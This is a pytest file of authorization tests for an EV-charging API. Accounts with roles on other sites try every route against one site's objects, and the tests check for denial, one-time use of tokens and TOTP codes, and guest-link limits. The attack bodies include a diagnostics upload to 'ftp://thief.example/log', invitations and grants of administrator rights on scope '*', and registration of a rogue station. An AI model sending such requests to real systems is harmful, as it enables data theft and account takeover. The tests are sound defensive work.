"""Attacks: somebody who is signed in, but not for this, tries every address of the API with objects of others."""

import asyncio
import importlib.util
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyotp
import pytest

from bothways.adapters.http.application import ROUTERS
from bothways.adapters.simulated.vehicle import VirtualVehicle
from bothways.operations.access.roles import Grant, Role

spec = importlib.util.spec_from_file_location("live_world", Path(__file__).with_name("live_world.py"))
live_world = importlib.util.module_from_spec(spec)
spec.loader.exec_module(live_world)
pytestmark = pytest.mark.asyncio
OPEN = {"/session", "/session/ways", "/session/passkey", "/session/passkey/question", "/invitations/accept"}
OWN = ("/account", "/session", "/tokens")
"""What everybody may do with their own account; nothing in it names an object of others."""
SOON = (datetime.now(tz=UTC) + timedelta(hours=5)).isoformat()
WHY = {"reason": "because I can"}
NEED = {"ready_by": SOON, "soc": 0.9, "charge_now": True}
BODIES = {
    "PUT /needs/{holder:path}": NEED,
    "PUT /wishes/{holder:path}": {"days": [{"day": 0, "wall": "07:30", "soc": 0.8}]},
    "PUT /sites/{site_id}/import-limit": {"import_kw": 1.0, **WHY},
    "PUT /sites/{site_id}/grid-permission": {
        "agreement": "A", "export_limit_kw": 500.0, "protection": "P", "certificates": [], "islanding": True,
    },
    "POST /sites/{site_id}/overrides": {"kind": "pause", "subject": "", "until": SOON, **WHY},
    "PUT /sites/{site_id}/queues/{name}": {"evses": ["CP-1/1"], "members": []},
    "PUT /queues/{holder}/{site_id}/{name}": {"hours": 2.0},
    "POST /queues/{holder}/{site_id}/{name}/swaps": {"other": "CP-1/1"},
    "PUT /queues/{holder}/{site_id}/{name}/swaps/{swap_id}": {"agrees": True},
    "PUT /stations/{station_id}/evses/{evse_id}/charging-profile": {"charge_kw": 0.0, "until": SOON, **WHY},
    "POST /stations/{station_id}/availability": {"operative": False, **WHY},
    "POST /stations/{station_id}/evses/{evse_id}/availability": {"operative": False, **WHY},
    "POST /stations/{station_id}/trigger": {"message": "boot", **WHY},
    "POST /stations/{station_id}/diagnostics": {"location": "ftp://thief.example/log", **WHY},
    "POST /installations": {"station_id": "EVIL-1", "site_id": "house"},
    "POST /installations/{station_id}/evses/{evse_id}/test-discharge": {"agreed": True},
    "POST /invitations": {"name": "Mallory", "grants": [{"role": "administrator", "scope": "*"}]},
    "PUT /accounts/{account_id}/grants": {"grants": [{"role": "administrator", "scope": "*"}]},
    "POST /sites/{site_id}/island/requests": {"kind": "confirm"},
    "PUT /sites/{site_id}/island/positions/{device}": {"closed": True},
    "PUT /sites/{site_id}/island/vehicles/{station_id}/{evse_id}": {"opted_out": True},
}  # fmt: skip
STRANGERS = {
    "fleet elsewhere": Grant(Role.FLEET_OPERATOR, "site:mill"),
    "contractor elsewhere": Grant(Role.CONTRACTOR, "site:mill"),
    "desk elsewhere": Grant(Role.FRONT_DESK, "site:mill"),
    "grid elsewhere": Grant(Role.GRID_VIEWER, "site:mill"),
    "administrator elsewhere": Grant(Role.ADMINISTRATOR, "site:mill"),
    "another driver": Grant(Role.DRIVER, "token:T-9"),
}


def _requests(account_id):
    """Every request of the API on objects of the site ``house`` and the driver ``T-1``."""
    names = {"site_id": "house", "station_id": "CP-1", "evse_id": "1", "holder": "T-1", "account_id": account_id,
             "transaction_id": "1", "override_id": "1", "name": "garage", "swap_id": "1", "device": "main",
             "session_id": "1", "credential_id": "1", "secret": "guess"}  # fmt: skip
    for route in (route for router in ROUTERS for route in router.routes):
        if route.path in OPEN or route.path.startswith(("/guest/", *OWN)):
            continue
        for method in sorted(route.methods - {"HEAD"}):
            path = re.sub(r"{(\w+)(:path)?}", lambda found: names[found[1]], route.path)
            yield method, path, BODIES.get(f"{method} {route.path}", WHY if method == "POST" else None)


async def _told(client, method, path, body):
    async with client.stream(method, f"/api/v1{path}", json=body) as answer:
        return answer.status_code, "" if answer.is_success and path.endswith("/live") else (
            await answer.aread()
        ).decode()


def _harmless(text):
    """An answer without anything of the site or the driver but what was asked for itself."""
    return text == "null" or '"stays":[]' in text or not any(name in text for name in ("T-1", "house", "CP-1"))


async def test_nobody_reaches_objects_of_others_by_their_names(tmp_path):
    async with live_world.world(tmp_path) as world:
        await world.station.plug_in(1, VirtualVehicle("T-1", 60.0, 24.0, 11.0, min_charge_kw=4.14))
        loop = world.live.loops["house"]
        await world.until(lambda: loop.snapshot().image.evses[0].session is not None, "no session")
        victim = await world.live.store.account_by_name("driver")
        for name, grant in STRANGERS.items():
            await world.live.access.create(name, live_world.PASSWORD, [grant])
            client = await world.client(name)
            reached = []
            for method, path, body in _requests(victim.account_id):
                status, text = await _told(client, method, path, body)
                empty = method == "GET" and _harmless(text)
                if status not in {401, 403, 404} and not empty:
                    reached.append((name, method, path, status, text[:200]))
            assert not reached, "\n".join(map(str, reached))
        assert not (await world.live.store.latches())
        assert await world.live.store.station("EVIL-1") is None
        assert loop.snapshot().image.evses[0].session.declared is None


async def test_a_grid_viewer_and_a_contractor_of_the_site_change_nothing_that_is_not_theirs(tmp_path):
    allowed = {
        "grid here": {"GET /power", "GET /sites/house/power"},
        "contractor": {"GET /stations", "GET /station-quality", "GET /installation-sites", "POST /installations"},
    }
    async with live_world.world(tmp_path) as world:
        await world.live.access.create("grid here", live_world.PASSWORD, [Grant(Role.GRID_VIEWER, "site:house")])
        victim = await world.live.store.account_by_name("driver")
        for name, fine in allowed.items():
            client = await world.client(name)
            reached = []
            for method, path, body in _requests(victim.account_id):
                if name == "contractor" and path.startswith(("/stations/CP-1", "/installations")):
                    continue  # a contractor of the site works on its stations
                status, text = await _told(client, method, path, body)
                empty = method == "GET" and _harmless(text)
                if status not in {401, 403, 404} and not empty and f"{method} {path}" not in fine:
                    reached.append((name, method, path, status, text[:200]))
            assert not reached, "\n".join(map(str, reached))
        assert not (await world.live.store.latches())


async def test_what_was_used_once_opens_nothing_again(tmp_path):
    async with live_world.world(tmp_path) as world:
        admin, driver, stranger = [await world.client(name) for name in ("admin", "driver", None)]
        body = {"name": "Robin", "grants": [{"role": "grid_viewer", "scope": "site:house"}]}
        token = (await admin.post("/api/v1/invitations", json=body)).json()["token"]
        words = ("first of four words", "second of four words")
        tries = [stranger.post("/api/v1/invitations/accept", json={"token": token, "password": one}) for one in words]
        assert sorted(answer.status_code for answer in await asyncio.gather(*tries)) == [201, 401]
        assert (await stranger.get("/api/v1/session", headers={"authorization": f"Bearer {token}"})).status_code == 401

        made = (await driver.post("/api/v1/account/second-factor")).json()
        code = pyotp.TOTP(made["secret"]).now()
        kept = (await driver.post("/api/v1/account/second-factor/confirm", json={"code": code})).json()["codes"]
        known = {"name": "driver", "password": live_world.PASSWORD}
        assert (await stranger.post("/api/v1/session", json={**known, "code": code})).status_code == 401, "it is used"
        both = [stranger.post("/api/v1/session", json={**known, "code": kept[0]}) for _ in range(3)]
        assert sorted(answer.status_code for answer in await asyncio.gather(*both)) == [201, 401, 401]
        database = b"".join(path.read_bytes() for path in tmp_path.glob("live.db*"))
        assert made["secret"].encode() not in database


async def test_a_guest_speaks_for_one_stay_and_for_nothing_else(tmp_path):
    async with live_world.world(tmp_path) as world:
        desk, guest = await world.client("desk"), await world.client()
        secret = (await desk.get("/api/v1/stations/CP-1/evses/1/guest-link")).json()["secret"]
        await world.station.plug_in(1, VirtualVehicle("T-2", 60.0, 24.0, 11.0, min_charge_kw=4.14))
        loop = world.live.loops["house"]
        await world.until(lambda: loop.snapshot().image.evses[0].session is not None, "no session")
        tries = await asyncio.gather(*(guest.post(f"/api/v1/guest/{secret}/claim") for _ in range(6)))
        assert sorted(answer.status_code for answer in tries) == [201, *[409] * 5], "one stay, one guest"
        claim = next(answer.json()["claim"] for answer in tries if answer.status_code == 201)
        for headers in ({"authorization": f"Bearer {claim}"}, {"authorization": f"Bearer {secret}"}):
            for path in ("/sites/house", "/needs/T-2", "/vehicles/T-2", "/transactions", "/stations"):
                assert (await guest.get(f"/api/v1{path}", headers=headers)).status_code == 401, path
        wish = {**NEED, "charge_now": False, "discharge_consent": True, "floor_soc": 0.0}
        asked = await guest.put(f"/api/v1/guest/{secret}/need", json=wish, headers={"x-guest-claim": claim})
        assert asked.status_code == 422
        session = loop.snapshot().image.evses[0].session
        need = (await world.live.store.needs(["CP-1/1"])).get("CP-1/1")
        assert need is None or not need.discharge_consent, "a guest's vehicle gives nothing back"
        assert session.id_token == "T-2"
        await world.station.unplug(1)
        await world.until(lambda: loop.snapshot().image.evses[0].session is None, "still there")
        await world.station.plug_in(1, VirtualVehicle("T-1", 60.0, 24.0, 11.0, min_charge_kw=4.14))
        await world.until(lambda: loop.snapshot().image.evses[0].session is not None, "no session")
        seen = (await guest.get(f"/api/v1/guest/{secret}", headers={"x-guest-claim": claim})).json()
        assert not seen["mine"], "the next stay is somebody else's"
        assert "T-1" not in str(seen)
